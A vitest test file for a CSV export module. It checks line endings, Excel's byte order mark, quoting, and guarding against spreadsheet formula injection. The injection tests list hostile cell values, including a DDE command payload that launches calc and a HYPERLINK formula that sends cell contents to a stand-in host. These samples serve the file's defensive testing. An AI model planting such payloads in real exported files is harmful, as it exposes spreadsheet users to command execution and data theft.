import { describe, expect, it } from 'vitest'
import { numberCell, textCell, writeCsv } from './csv.ts'
import { readCsv } from './testing/readCsv.ts'

const [machine, excel] = [',', ';'] as const
const forms = [machine, excel] as const

const hostile = [
  ...['=1+1', '=HYPERLINK("https://x.example?"&A1,"Klik")', '="=1"', "=cmd|' /C calc'!A0"],
  ...['+31612345678', '+1+cmd', '-1', '-2+3+cmd', '--1', '@SUM(1;1)', '@import', '\t=1+1', '\t'],
  ...['\r=1+1', '\r\n=1+1', '=1+1\nnote', '=1,=2;=3', '="a""b"', '\0=1', '=\u202E1'],
]

const names = [
  ...["'s-Hertogenbosch", "'s-Gravenhage", 'Súdwest-Fryslân', 'Noardeast-Fryslân', 'IJsselstein'],
  ...['Aa en Hunze', 'Bergen (NH.)', 'Zaanstreek/Waterland'],
]

describe('a file of comma- or semicolon-separated values', () => {
  it('ends every line, the last one too, with CR and LF', () => {
    const lines = [[textCell('a'), textCell('b')], [textCell('c')]]
    expect(writeCsv(lines, machine)).toBe('a,b\r\nc\r\n')
    expect(writeCsv(lines, excel)).toBe('\uFEFFa;b\r\nc\r\n')
    expect(writeCsv([], machine)).toBe('')
  })

  it('has a byte order mark only where Excel needs it, and never a sep= line', () => {
    expect([...new TextEncoder().encode(writeCsv([[textCell('a')]], excel))].slice(0, 3)).toEqual([
      0xef, 0xbb, 0xbf,
    ])
    expect(writeCsv([[textCell('a')]], machine).startsWith('a')).toBe(true)
    expect(forms.some((form) => writeCsv([[textCell('a')]], form).includes('sep='))).toBe(false)
  })

  it('quotes a field only where it must', () => {
    const line = [textCell('a,b'), textCell('a;b'), textCell('a"b'), textCell('a\nb')]
    expect(writeCsv([line], machine)).toBe('"a,b",a;b,"a""b","a\nb"\r\n')
    expect(writeCsv([line], excel)).toBe('\uFEFFa,b;"a;b";"a""b";"a\nb"\r\n')
  })

  it('never guards a number, and tells zero from missing', () => {
    const line = [numberCell(-3, String), numberCell(0, String), numberCell(undefined, String)]
    expect(writeCsv([line], excel)).toBe('\uFEFF-3;0;\r\n')
  })
})

describe.each(forms)('with the separator %s', (separator) => {
  it.each(hostile)('the text %j cannot run as a formula', (text) => {
    const [line] = readCsv(writeCsv([[textCell(text), textCell('end')]], separator), separator)
    expect(line).toEqual([`'${text}`, 'end'])
  })

  it.each(names)('the name %s is byte for byte the same', (name) => {
    const text = writeCsv([[textCell(name)]], separator)
    expect(text.replace(/^\uFEFF/, '')).toBe(`${name}\r\n`)
  })
})
